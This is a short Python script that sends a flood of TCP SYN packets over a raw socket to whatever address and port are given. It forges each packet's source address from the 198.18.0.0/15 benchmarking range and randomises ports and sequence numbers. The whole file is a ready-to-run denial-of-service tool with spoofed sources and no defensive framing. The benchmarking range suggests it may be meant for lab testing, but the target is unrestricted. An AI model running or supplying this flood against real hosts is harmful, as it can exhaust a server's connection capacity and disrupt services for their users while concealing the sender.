#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""A flood of SYNs that nobody goes on with.

syns.py ADDRESS PORT COUNT: so many, each of another address of 198.18.0.0/15 and another port.
Needs root."""
import random
import socket
import struct
import sys

SYN = 2
FLAGS = 5 << 12 | SYN


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, target, port):
    def tcp(check):
        return struct.pack("!HHIIHHHH", sport, port, seq, 0, FLAGS, 65535, check, 0)

    sport, seq = random.randrange(1024, 65536), random.getrandbits(32)
    ends = source + target
    check = checksum(ends + struct.pack("!HH", socket.IPPROTO_TCP, 20) + tcp(0))
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends
    return ip + tcp(check)


def main():
    address, port, count = sys.argv[1], *map(int, sys.argv[2:])
    target = socket.inet_aton(address)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(count):
        source = struct.pack("!I", 198 << 24 | 18 << 16 | random.randrange(1, 1 << 17))
        sender.sendto(packet(source, target, port), (address, 0))


main()
